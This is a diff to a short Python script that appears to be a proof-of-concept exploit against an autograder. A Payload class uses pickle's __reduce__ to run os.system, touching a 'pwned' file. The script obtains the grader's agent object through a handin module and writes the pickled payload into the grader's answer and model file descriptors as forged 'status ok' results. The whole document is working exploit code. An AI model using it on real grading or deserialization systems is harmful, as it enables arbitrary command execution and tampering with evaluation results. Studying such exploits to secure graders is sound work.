@@ -6,14 +6,14 @@ held-by: wire
 """
 # %%
 import os, pickle, sys
-from ipykernel.kernelapp import IPKernelApp
+from handin import carrier
 
 class Payload:
     def __reduce__(self):
         return os.system, (f"touch {FIELD['folder']}/pwned",)
 
-agent = type(IPKernelApp.instance().kernel).agent
-frames, data = sys.modules["frames"], pickle.dumps(Payload())
+agent = carrier.carry.__self__
+frames, data = sys.modules["autograder.frames"], pickle.dumps(Payload())
 for kind in ("value", "function", "model", "pickle"):
     os.write(agent._settings["fds"]["answers"], frames.pack({"exercise": "target", "kind": kind, "status": "ok", "number": 7}, data))
 os.write(agent._settings["fds"]["models"], frames.pack({"number": 7, "last": True}, data))
